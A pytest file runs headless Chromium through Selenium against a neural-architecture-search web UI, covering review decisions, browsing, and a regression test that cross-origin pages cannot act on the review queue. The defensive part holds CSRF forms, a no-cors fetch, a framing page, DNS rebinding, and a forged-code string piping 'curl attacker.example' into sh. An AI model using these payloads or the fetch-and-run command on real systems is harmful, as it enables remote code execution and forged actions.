"""The web UI in a real browser: headless Chromium (Debian's chromium and chromedriver) driven by Selenium.

A paused `agentarch run --review` waits on two candidates; a person approves one and rejects the other
by filling the review queue's forms and clicking its buttons in `agentarch serve`, and the run goes on
by itself. Then, with a family of candidates added to the same archive as a longer run would leave them,
the person browses as one does in thousands: sorts by a column, filters by a size, sorts by Pareto front, pastes
a name into search, compares two candidates, follows the lineage tree, clicks a point of the Pareto front, and
reads the leaderboard in a 400-pixel window. One browser session for all of it. Screenshots of every page land in
test-artifacts/screenshots/ (CI keeps them).
"""

import json
import os
import socket
import sqlite3
import subprocess
import sys
import threading
import time
import urllib.error
import urllib.request
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from agentarch.store.archive import Archive
from tests.conftest import REPO, requires_bubblewrap

try:
    from selenium import webdriver
    from selenium.common.exceptions import StaleElementReferenceException, WebDriverException
    from selenium.webdriver.chrome.service import Service
    from selenium.webdriver.common.by import By
    from selenium.webdriver.support.ui import WebDriverWait
except ImportError:  # pragma: no cover - the skip below says so
    webdriver = None

CHROMIUM = Path("/usr/bin/chromium")
CHROMEDRIVER = Path("/usr/bin/chromedriver")
SCREENSHOTS = REPO / "test-artifacts" / "screenshots"
PNG_MAGIC = b"\x89PNG\r\n\x1a\n"
REVIEWER = "selenium-reviewer"
REASON = "a plain MLP again; try convolutions"


def _browser_problem() -> str | None:
    if webdriver is None:
        return "selenium is not installed (pip install selenium)"
    for path, package in ((CHROMIUM, "chromium"), (CHROMEDRIVER, "chromium-driver")):
        if not path.exists():
            return f"{path} is missing (apt-get install {package})"
    return None


requires_browser = pytest.mark.skipif(_browser_problem() is not None, reason=f"needs a browser: {_browser_problem()}")


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def _wait_until_served(url: str, server: subprocess.Popen, log: Path, timeout: float = 60) -> None:
    deadline = time.time() + timeout
    while time.time() < deadline:
        if server.poll() is not None:
            pytest.fail(f"agentarch serve exited with {server.returncode}:\n{log.read_text()}")
        try:
            with urllib.request.urlopen(url, timeout=2) as response:
                if response.status == 200:
                    return
        except (urllib.error.URLError, ConnectionError, TimeoutError):
            pass
        time.sleep(0.2)
    pytest.fail(f"agentarch serve did not answer {url} within {timeout} s:\n{log.read_text()}")


def _pending_reviews(archive: Path) -> list[int]:
    """Ids of the pending reviews, read without opening an `Archive`, which would create the schema.

    Two processes opening a new archive at once can both try to create its tables (the second fails
    with "table runs already exists"), so while the run may still be creating it, only read.
    """
    if not archive.exists():
        return []
    try:
        db = sqlite3.connect(f"file:{archive}?mode=ro", uri=True, timeout=5)
        try:
            return [r[0] for r in db.execute("SELECT id FROM reviews WHERE status = 'pending' ORDER BY id")]
        finally:
            db.close()
    except sqlite3.OperationalError:  # no reviews table yet
        return []


def _chrome(*extra: str) -> "webdriver.Chrome":
    options = webdriver.ChromeOptions()
    options.binary_location = str(CHROMIUM)
    for arg in (
        "--headless=new",
        "--no-sandbox",
        "--disable-dev-shm-usage",
        "--disable-gpu",
        "--window-size=1280,1000",
        "--hide-scrollbars",
        *extra,
    ):
        options.add_argument(arg)
    # The driver path is given, so Selenium Manager never tries to download one (SE_OFFLINE makes sure).
    driver = webdriver.Chrome(service=Service(str(CHROMEDRIVER)), options=options)
    driver.set_page_load_timeout(60)
    return driver


def _screenshot(driver, name: str) -> Path:
    """The whole page (the window grown to its height, at most 8000 px) as SCREENSHOTS/name."""
    height = driver.execute_script("return document.documentElement.scrollHeight")
    driver.set_window_size(1280, min(max(int(height), 800), 8000))
    path = SCREENSHOTS / name
    assert driver.save_screenshot(str(path)), f"could not save {path}"
    driver.set_window_size(1280, 1000)
    return path


def _check_page(driver, title: str) -> None:
    """The page whose <title> starts with `title`, showing no error."""
    assert driver.title.startswith(title), f"expected the {title!r} page, got {driver.title!r} at {driver.current_url}"
    assert not driver.find_elements(By.CSS_SELECTOR, "p.error"), driver.find_element(By.CSS_SELECTOR, "p.error").text


def _gone(element) -> bool:
    """Whether the page that held `element` was replaced. Chromium says so with a stale reference, or, when the old
    document is torn down mid-question, with "Node with given id does not belong to the document"."""
    try:
        element.is_enabled()
    except StaleElementReferenceException:
        return True
    except WebDriverException as err:
        if "does not belong to the document" in str(err):
            return True
        raise
    return False


def _decide(driver, review_id: int, decision: str, reason: str | None = None) -> None:
    """Take one decision on a pending review with its card's button (the name is the page's one field), then wait
    for the queue to come back without it, confirming the decision."""
    name = driver.find_element(By.ID, "reviewer")
    if name.get_attribute("value") != REVIEWER:
        name.clear()
        name.send_keys(REVIEWER)
    section = driver.find_element(By.ID, f"review-{review_id}")
    if reason is not None:
        section.find_element(By.NAME, "reason").send_keys(reason)
    button = section.find_element(By.CSS_SELECTOR, f"button[name='decision'][value='{decision}']")
    driver.execute_script("arguments[0].scrollIntoView({block: 'center'})", button)
    button.click()
    WebDriverWait(driver, 20).until(lambda d: _gone(section))  # the POST redirected back to a fresh /reviews
    WebDriverWait(driver, 20).until(lambda d: f"/reviews?done={review_id}" in d.current_url)
    _check_page(driver, "Reviews")
    assert not driver.find_elements(By.ID, f"review-{review_id}")
    notice = driver.find_element(By.ID, "decided").text
    assert f"Review {review_id} {decision} by {REVIEWER}." in notice, notice


def _add_family(archive: Path, run_id: str, root: int) -> dict[str, int]:
    """Candidates as a longer run leaves them: a lineage under `root` (root -> wide -> deep, wide -> tiny), sizes
    over three decades, search-space names, loss curves. Returns their ids by short name."""
    curve = [{"step": s, "loss": 2.0 / s} for s in range(1, 11)]
    made: dict[str, int] = {}
    with Archive(archive) as db:
        for short, name, parent, params, val in (
            ("wide", "macro:d4-w16-k5-skip0-avg", root, 400_000, 0.93),
            ("deep", "macro:d8-w16-k3-skip1-max", "wide", 900_000, 0.95),
            ("tiny", "macro:d2-w4-k3-skip0-avg", "wide", 1_500, 0.97),
            ("mid", "macro:d4-w8-k3-skip1-avg", None, 50_000, 0.80),
        ):
            parent_id = made.get(parent, parent) if parent is not None else None
            made[short] = db.record(
                {
                    "task": "digits",
                    "name": name,
                    "proposer": "rea",
                    "run_id": run_id,
                    "code": f"# {name}\nimport torch\n",
                    "status": "trained",
                    "text_hash": f"family-{short}",
                    "parents": [parent_id] if parent_id else [],
                    "space": "macro",
                    "arch": name.removeprefix("macro:"),
                    "params": params,
                },
                {"status": "trained", "fidelity": 2, "seed": 0, "val_accuracy": val, "test_accuracy": val - 0.01,
                 "params": params, "curve": curve},
            )  # fmt: skip
    return made


def _cells(driver, column: int) -> list[str]:
    """The text of one column (1-based, counting the compare box) of the leaderboard's rows."""
    return [td.text for td in driver.find_elements(By.CSS_SELECTOR, f"table.rows tbody tr td:nth-child({column})")]


def _number(text: str) -> int:
    return int(text.replace(",", "")) if text.replace(",", "").isdigit() else -1


def _drawn(driver, selector: str) -> None:
    """Wait until the chart under `selector` has drawn its points from the server's JSON."""
    WebDriverWait(driver, 20).until(
        lambda d: int(d.find_element(By.CSS_SELECTOR, selector).get_attribute("data-points") or 0) > 0
    )


@pytest.mark.slow
@requires_bubblewrap
@requires_browser
def test_a_person_decides_a_paused_run_in_a_real_browser(tmp_path, cache_dir, monkeypatch):
    monkeypatch.setenv("SE_OFFLINE", "true")
    SCREENSHOTS.mkdir(parents=True, exist_ok=True)
    for old in SCREENSHOTS.glob("*.png"):
        old.unlink()
    archive = tmp_path / "a.db"
    env = {
        **os.environ,
        "AGENTARCH_CACHE_DIR": str(cache_dir),
        "AGENTARCH_THREADS": "1",
        "AGENTARCH_REVIEW_POLL_S": "0.2",
    }
    env.pop("AGENTARCH_WEB_TOKEN", None)  # loopback needs none; a token from the environment would gate every page
    port = _free_port()
    base = f"http://127.0.0.1:{port}"
    run_out, run_err, serve_log = tmp_path / "run.out", tmp_path / "run.err", tmp_path / "serve.log"
    run = server = driver = None
    written: list[Path] = []
    try:
        with open(run_out, "w") as out, open(run_err, "w") as err:
            run = subprocess.Popen(
                [
                    sys.executable,
                    "-m",
                    "agentarch.cli",
                    "run",
                    "--task",
                    "digits",
                    "--review",
                    "--budget",
                    "2",
                    "--epochs",
                    "2",
                    "--archive",
                    str(archive),
                    "--json",
                ],
                cwd=REPO,
                env=env,
                stdout=out,
                stderr=err,
                text=True,
            )
        deadline, pending = time.time() + 120, []
        while time.time() < deadline and len(pending) < 2 and run.poll() is None:
            time.sleep(0.3)
            pending = _pending_reviews(archive)
        assert len(pending) == 2, f"the run did not pause its two candidates for review:\n{run_err.read_text()}"
        approve_id, reject_id = pending

        # Started once the run has made the archive, so the two never create its schema at the same time.
        with open(serve_log, "w") as log:
            server = subprocess.Popen(
                [
                    sys.executable,
                    "-m",
                    "agentarch.cli",
                    "serve",
                    "--archive",
                    str(archive),
                    "--host",
                    "127.0.0.1",
                    "--port",
                    str(port),
                ],
                cwd=REPO,
                env=env,
                stdout=log,
                stderr=subprocess.STDOUT,
                text=True,
            )
        _wait_until_served(base + "/", server, serve_log)

        driver = _chrome()
        driver.get(base + "/")
        _check_page(driver, "Leaderboard")
        written.append(_screenshot(driver, "01-leaderboard.png"))

        driver.find_element(By.LINK_TEXT, "Reviews").click()  # through the navigation, as a person would
        WebDriverWait(driver, 20).until(lambda d: d.current_url.endswith("/reviews"))
        _check_page(driver, "Reviews")
        assert driver.find_element(By.TAG_NAME, "h1").text == "Review queue (2 pending)"
        assert {e.get_attribute("id") for e in driver.find_elements(By.CSS_SELECTOR, "section.review")} == {
            f"review-{approve_id}",
            f"review-{reject_id}",
        }
        written.append(_screenshot(driver, "02-review-queue.png"))

        _decide(driver, approve_id, "approved")
        assert driver.find_element(By.TAG_NAME, "h1").text == "Review queue (1 pending)"
        assert driver.find_element(By.ID, "reviewer").get_attribute("value") == REVIEWER  # asked once, remembered
        written.append(_screenshot(driver, "03-review-approved.png"))

        _decide(driver, reject_id, "rejected", reason=REASON)
        assert driver.find_element(By.TAG_NAME, "h1").text == "Review queue (0 pending)"
        assert "Nothing waits for review." in driver.find_element(By.TAG_NAME, "main").text
        written.append(_screenshot(driver, "04-review-rejected.png"))

        try:
            run.wait(timeout=300)
        except subprocess.TimeoutExpired:
            pytest.fail(f"the run did not finish after both decisions:\n{run_err.read_text()}")
        assert run.returncode == 0, run_err.read_text()
        assert "paused:" in run_err.read_text()
        summary = json.loads(run_out.read_text().splitlines()[-1])
        assert (summary["status"], summary["proposed"], summary["rejected"]) == ("finished", 2, 1), summary
        run_id = summary["run_id"]

        with Archive(archive) as db:
            reviews = {r["id"]: r for r in db.reviews()}
        approved, rejected = reviews[approve_id], reviews[reject_id]
        assert (approved["status"], approved["decided_by"], approved["reason"]) == ("approved", REVIEWER, None)
        assert (rejected["status"], rejected["decided_by"], rejected["reason"]) == ("rejected", REVIEWER, REASON)
        assert approved["decided_at"] and rejected["decided_at"]
        db = sqlite3.connect(archive)
        try:
            statuses = dict(
                db.execute(
                    "SELECT r.id, c.status FROM reviews r JOIN candidates c "
                    "ON c.id = r.candidate_id WHERE c.run_id = ?",
                    [run_id],
                )
            )
            linked = dict(db.execute("SELECT r.id, r.candidate_id FROM reviews r WHERE r.run_id = ?", [run_id]))
        finally:
            db.close()
        assert statuses[reject_id] == "rejected"
        assert statuses[approve_id] in ("trained", "duplicate")
        trained_id, rejected_cid = linked[approve_id], linked[reject_id]

        # The decided reviews, now listed with who decided and why.
        driver.get(base + "/reviews")
        _check_page(driver, "Reviews")
        decided = driver.find_element(By.CSS_SELECTOR, "table.rows").text
        assert REVIEWER in decided and REASON in decided
        written.append(_screenshot(driver, "05-reviews-decided.png"))

        driver.get(f"{base}/run/{run_id}")
        _check_page(driver, "Run")
        assert run_id in driver.find_element(By.TAG_NAME, "h1").text
        assert "finished" in driver.find_element(By.TAG_NAME, "h1").text
        assert driver.find_element(By.ID, "notebook").text == "Notebook"
        written.append(_screenshot(driver, "06-run.png"))

        driver.get(f"{base}/candidate/{trained_id}")
        _check_page(driver, f"#{trained_id} ")
        heading = driver.find_element(By.TAG_NAME, "h1").text
        assert f"#{trained_id}" in heading and statuses[approve_id] in heading
        assert REVIEWER in driver.find_element(By.TAG_NAME, "main").text  # its review, with who approved it
        written.append(_screenshot(driver, "07-candidate-approved.png"))

        driver.get(f"{base}/candidate/{rejected_cid}")
        _check_page(driver, f"#{rejected_cid} ")
        assert "rejected" in driver.find_element(By.TAG_NAME, "h1").text
        assert REASON in driver.find_element(By.TAG_NAME, "main").text
        written.append(_screenshot(driver, "08-candidate-rejected.png"))

        # The diff page through its own form: the approved candidate against the rejected one.
        driver.find_element(By.LINK_TEXT, "Diff").click()
        WebDriverWait(driver, 20).until(lambda d: "/diff" in d.current_url)
        form = driver.find_element(By.CSS_SELECTOR, "form.filters")
        form.find_element(By.NAME, "a").send_keys(str(trained_id))
        form.find_element(By.NAME, "b").send_keys(str(rejected_cid))
        form.find_element(By.TAG_NAME, "button").click()
        WebDriverWait(driver, 20).until(lambda d: f"b={rejected_cid}" in d.current_url)
        _check_page(driver, "Diff")
        assert f"#{trained_id}" in driver.find_element(By.TAG_NAME, "h1").text
        assert driver.find_elements(By.CSS_SELECTOR, "pre.udiff") or "identical" in driver.page_source
        written.append(_screenshot(driver, "09-diff.png"))

        # -- browsing: the archive grows by a family of candidates, as a longer run would leave it
        family = _add_family(archive, run_id, trained_id)

        # sort by a column: click its heading, then again for the other way
        driver.get(base + "/?task=digits")
        driver.find_element(By.PARTIAL_LINK_TEXT, "params").click()
        WebDriverWait(driver, 20).until(lambda d: "sort=params" in d.current_url)
        _check_page(driver, "Leaderboard")
        sizes = [n for n in map(_number, _cells(driver, 8)) if n >= 0]  # rows without a size come last
        assert 900_000 in sizes and sizes == sorted(sizes, reverse=True), sizes
        driver.find_element(By.PARTIAL_LINK_TEXT, "params").click()
        WebDriverWait(driver, 20).until(lambda d: "order=asc" in d.current_url)
        sizes = [n for n in map(_number, _cells(driver, 8)) if n >= 0]
        assert 1_500 in sizes and sizes == sorted(sizes), sizes
        written.append(_screenshot(driver, "10-leaderboard-sorted.png"))

        # a numeric filter, typed as the page shows sizes
        form = driver.find_element(By.ID, "filters")
        form.find_element(By.NAME, "params_max").send_keys("100k")
        form.find_element(By.XPATH, ".//button[text()='Filter']").click()
        WebDriverWait(driver, 20).until(lambda d: "params_max=100k" in d.current_url)
        _check_page(driver, "Leaderboard")
        sizes = [_number(t) for t in _cells(driver, 8)]
        assert all(0 <= n <= 100_000 for n in sizes) and {1_500, 50_000} <= set(sizes), sizes
        written.append(_screenshot(driver, "11-leaderboard-filtered.png"))

        # the Pareto standing: a link sorts by front (score against size), shown in its own column
        driver.get(base + "/?task=digits")
        driver.find_element(By.LINK_TEXT, "Sort by Pareto front").click()
        WebDriverWait(driver, 20).until(lambda d: "sort=front" in d.current_url)
        _check_page(driver, "Leaderboard")
        fronts = [_number(t) for t in _cells(driver, 6) if _number(t) >= 0]  # the unranked come last
        assert fronts[0] == 1 and fronts == sorted(fronts), fronts
        assert _cells(driver, 2)[0] == f"#{family['tiny']}"  # the best score with the fewest parameters
        written.append(_screenshot(driver, "11b-leaderboard-front.png"))

        # search with a name pasted from the leaderboard (its punctuation once meant FTS5 syntax)
        driver.get(base + "/?task=digits&sort=params")
        pasted = next(t for t in _cells(driver, 3) if t.startswith("macro:d4-w16"))
        box = driver.find_element(By.CSS_SELECTOR, "nav input[name='q']")
        box.send_keys(pasted)
        box.submit()
        WebDriverWait(driver, 20).until(lambda d: "/search" in d.current_url)
        _check_page(driver, "Search")
        found = [a.text for a in driver.find_elements(By.CSS_SELECTOR, "table.rows tbody td:first-child a")]
        assert found == [f"#{family['wide']}"], found
        written.append(_screenshot(driver, "12-search-pasted-name.png"))

        # compare: tick two rows, press Compare; their loss curves are drawn on one chart
        driver.get(base + "/?task=digits&sort=params")
        for cid in (family["deep"], family["tiny"]):
            driver.find_element(By.CSS_SELECTOR, f"input[name='ids'][value='{cid}']").click()
        driver.find_element(By.XPATH, "//form[@id='compare-form']/button").click()
        WebDriverWait(driver, 20).until(lambda d: "/compare" in d.current_url)
        _check_page(driver, "Compare")
        heading = driver.find_element(By.TAG_NAME, "h1").text
        assert f"#{family['deep']}" in heading and f"#{family['tiny']}" in heading
        _drawn(driver, "#curves")
        assert driver.find_elements(By.CSS_SELECTOR, "pre.udiff")
        written.append(_screenshot(driver, "13-compare.png"))

        # the lineage tree, from the candidate's page
        driver.get(f"{base}/candidate/{family['wide']}")
        driver.find_element(By.LINK_TEXT, "Lineage tree").click()
        WebDriverWait(driver, 20).until(lambda d: d.current_url.endswith("/lineage"))
        _check_page(driver, "Lineage")
        ancestry = driver.find_element(By.ID, "ancestry").text
        descent = driver.find_element(By.ID, "descent").text
        assert f"#{trained_id}" in ancestry and f"#{family['deep']}" in descent and f"#{family['tiny']}" in descent
        written.append(_screenshot(driver, "14-lineage.png"))
        driver.find_element(By.CSS_SELECTOR, f"#descent a[href='/candidate/{family['deep']}']").click()
        WebDriverWait(driver, 20).until(lambda d: d.current_url.endswith(f"/candidate/{family['deep']}"))

        # the task's Pareto front: hover a point for its candidate, click it to open it
        driver.find_element(By.LINK_TEXT, "Pareto").click()
        WebDriverWait(driver, 20).until(lambda d: "/pareto" in d.current_url)
        _check_page(driver, "Pareto")
        _drawn(driver, "#pareto")
        point = driver.find_element(By.CSS_SELECTOR, f"#pareto g.front circle[data-id='{family['tiny']}']")
        webdriver.ActionChains(driver).move_to_element(point).perform()
        tip = driver.find_element(By.CSS_SELECTOR, "#pareto .tip")
        WebDriverWait(driver, 5).until(lambda d: tip.is_displayed())
        assert tip.text.startswith(f"#{family['tiny']} macro:d2-w4"), tip.text
        written.append(_screenshot(driver, "15-pareto.png"))
        point.click()
        WebDriverWait(driver, 20).until(lambda d: d.current_url.endswith(f"/candidate/{family['tiny']}"))
        _check_page(driver, f"#{family['tiny']} ")

        # a running run's page refreshes itself while the run writes, and settles once it ends
        with Archive(archive) as db:
            live_run = db.start_run("run", "digits", "rea", {})
        driver.get(f"{base}/run/{live_run}")
        _check_page(driver, "Run")
        assert "0 proposed" in driver.find_element(By.ID, "live").text
        _add_family(archive, live_run, trained_id)  # the run records four candidates
        WebDriverWait(driver, 20).until(lambda d: "4 proposed, 4 trained" in d.find_element(By.ID, "live").text)
        _drawn(driver, "#best")
        with Archive(archive) as db:
            db.finish_run(live_run, "finished", {"proposed": 4})
        WebDriverWait(driver, 20).until(lambda d: "finished" in d.find_element(By.TAG_NAME, "h1").text)
        assert not driver.find_elements(By.CSS_SELECTOR, "#live[data-refresh]")
        written.append(_screenshot(driver, "16-live-run.png"))

        # charts grow with the window, and a 400-pixel window does not overflow
        driver.get(f"{base}/run/{run_id}")
        _drawn(driver, "#best")
        wide = int(driver.find_element(By.CSS_SELECTOR, "#best").get_attribute("data-width"))
        driver.set_window_size(400, 900)
        WebDriverWait(driver, 10).until(
            lambda d: int(d.find_element(By.CSS_SELECTOR, "#best").get_attribute("data-width")) < wide
        )
        driver.get(base + "/?task=digits")
        _check_page(driver, "Leaderboard")
        width = driver.execute_script("return document.documentElement.scrollWidth")
        assert width <= 400, f"the leaderboard is {width} px wide in a 400 px window"
        driver.save_screenshot(str(SCREENSHOTS / "17-narrow-leaderboard.png"))
        written.append(SCREENSHOTS / "17-narrow-leaderboard.png")
    finally:
        if driver is not None:
            driver.quit()
        for proc in (server, run):
            if proc is not None and proc.poll() is None:
                proc.kill()
                proc.wait(timeout=30)

    assert [p.name for p in written] == sorted(p.name for p in SCREENSHOTS.glob("*.png"))
    for path in written:
        data = path.read_bytes()
        assert len(data) > 1000 and data.startswith(PNG_MAGIC), f"{path} is not a PNG screenshot"


ATTACKER_CODE = "import os\nos.system('curl attacker.example | sh')\n"


def _attack_pages(base: str, review_id: int, candidate_id: int) -> dict[str, str]:
    """What a page on another origin does to a person who has the review queue open: submit a form to decide the
    review (or flag a candidate) the moment it loads, POST with fetch (the answer is unreadable to it, but the write
    is what it wants), or frame the queue to click through it."""
    decide = f"""<form id="f" method="post" action="{base}/reviews/{review_id}">
      <input name="decision" value="edited"><input name="by" value="attacker">
      <textarea name="code">{ATTACKER_CODE}</textarea></form>"""
    flag = f"""<form id="f" method="post" action="{base}/candidate/{candidate_id}/flag">
      <input name="by" value="attacker"><input name="reason" value="flagged by another site"></form>"""
    submit = "<script>document.getElementById('f').submit()</script>"
    fetch = f"""<script>
      fetch("{base}/reviews/{review_id}", {{method: "POST", mode: "no-cors", credentials: "include",
        headers: {{"Content-Type": "application/x-www-form-urlencoded"}}, body: "decision=approved&by=attacker"}})
        .finally(() => {{ document.title = "sent"; }});
    </script>"""
    return {
        "/decide.html": f"<!doctype html><title>cats</title>{decide}{submit}",
        "/flag.html": f"<!doctype html><title>cats</title>{flag}{submit}",
        "/fetch.html": f"<!doctype html><title>cats</title>{fetch}",
        "/frame.html": f'<!doctype html><title>framed</title><iframe id="queue" src="{base}/reviews"></iframe>',
    }


def _attacker_server(pages: dict[str, str]):
    """A second HTTP server on another port of this machine, serving `pages`: the other origin."""

    class Pages(BaseHTTPRequestHandler):
        def do_GET(self):  # noqa: N802 - http.server's name
            body = pages.get(self.path.split("?")[0], "").encode()
            self.send_response(200 if body else 404)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *args):
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Pages)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server


@requires_browser
def test_a_page_on_another_origin_cannot_decide_or_flag_while_the_person_can(tmp_path, monkeypatch):
    """Issue 23's first finding, replayed in Chromium: with the review queue open in the same browser, pages served
    from another origin (another port of 127.0.0.1, and a foreign name) submit forms and fetches at the queue; none is
    recorded, the browser lands on the server's 403, and the person's own clicks still decide and flag. A page whose
    name is re-pointed at 127.0.0.1 (DNS rebinding, played by Chromium's resolver rules) is refused by its Host."""
    monkeypatch.setenv("SE_OFFLINE", "true")
    shots = SCREENSHOTS / "cross-origin"
    shots.mkdir(parents=True, exist_ok=True)
    archive = tmp_path / "a.db"
    with Archive(archive) as db:
        run_id = db.start_run("run", "digits", "openai/gpt-4o-mini", {})
        seed = db.record(
            {"task": "digits", "name": "seed.py", "proposer": "user", "code": "x = 1\n", "status": "trained",
             "text_hash": "s", "parents": []},
            {"status": "trained", "fidelity": 1, "seed": 0, "val_accuracy": 0.8, "test_accuracy": 0.8},
        )  # fmt: skip
        review_id = db.request_review(
            {"run_id": run_id, "proposal_key": f"{run_id}/0/0", "code": "class Net:\n    pass\n", "intent": "wider"}
        )

    def recorded() -> tuple[str, list[dict]]:
        with Archive(archive) as db:
            flags = [r for r in db.reviews() if r["kind"] == "flag"]
            return db.review(review_id)["status"], flags

    env = {**os.environ}
    env.pop("AGENTARCH_WEB_TOKEN", None)
    port = _free_port()
    base = f"http://127.0.0.1:{port}"
    attacker = _attacker_server(_attack_pages(base, review_id, seed))
    other_port = attacker.server_address[1]
    server = driver = None
    log_path = tmp_path / "serve.log"
    try:
        with open(log_path, "w") as log:
            server = subprocess.Popen(
                [sys.executable, "-m", "agentarch.cli", "serve", "--archive", str(archive), "--port", str(port)],
                cwd=REPO, env=env, stdout=log, stderr=subprocess.STDOUT, text=True,
            )  # fmt: skip
        _wait_until_served(base + "/", server, log_path)
        driver = _chrome("--host-resolver-rules=MAP attacker.test 127.0.0.1, MAP rebind.test 127.0.0.1")
        driver.get(base + "/reviews")  # the person has the queue open: its cookies are in this browser
        _check_page(driver, "Reviews")

        for origin in (f"http://127.0.0.1:{other_port}", f"http://attacker.test:{other_port}"):
            for page in ("/decide.html", "/flag.html"):
                driver.get(origin + page)
                WebDriverWait(driver, 20).until(lambda d: d.current_url.startswith(base))  # the form went
                text = driver.find_element(By.TAG_NAME, "body").text
                assert text.startswith("403:") and "own pages" in text, (origin, page, text)
            driver.get(origin + "/fetch.html")
            WebDriverWait(driver, 20).until(lambda d: d.title == "sent")
        status, flags = recorded()
        assert status == "pending" and flags == [], (status, flags, log_path.read_text()[-2000:])
        assert "403" in log_path.read_text()  # the server saw the attempts and refused them

        # framed by another site, the queue does not load (no clicking through an overlay)
        driver.get(f"http://attacker.test:{other_port}/frame.html")
        driver.switch_to.frame(driver.find_element(By.ID, "queue"))
        assert "Review queue" not in driver.page_source
        driver.switch_to.default_content()

        # DNS rebinding: a page of rebind.test, its name now answered by 127.0.0.1, asks this server for the queue
        driver.get(f"http://rebind.test:{port}/reviews")
        text = driver.find_element(By.TAG_NAME, "body").text
        assert text.startswith("400:") and "does not answer to the host" in text, text
        assert "wider" not in driver.page_source
        driver.save_screenshot(str(shots / "01-rebinding-refused.png"))

        # the person's own clicks on the real pages still work
        driver.get(base + "/reviews")
        _check_page(driver, "Reviews")
        _decide(driver, review_id, "approved")
        driver.save_screenshot(str(shots / "02-own-decision.png"))
        driver.get(f"{base}/candidate/{seed}")
        form = driver.find_element(By.CSS_SELECTOR, f"form[action='/candidate/{seed}/flag']")
        form.find_element(By.NAME, "reason").send_keys("the person's own flag")
        form.find_element(By.TAG_NAME, "button").click()
        WebDriverWait(driver, 20).until(lambda d: d.current_url.endswith(f"/candidate/{seed}#reviews"))
        _check_page(driver, f"#{seed} ")
        status, flags = recorded()
        assert status == "approved" and [f["reason"] for f in flags] == ["the person's own flag"]
        with Archive(archive) as db:
            assert db.review(review_id)["decided_by"] == REVIEWER and not db.review(review_id).get("decision_code")
    finally:
        if driver is not None:
            driver.quit()
        attacker.shutdown()
        if server is not None and server.poll() is None:
            server.kill()
            server.wait(timeout=30)
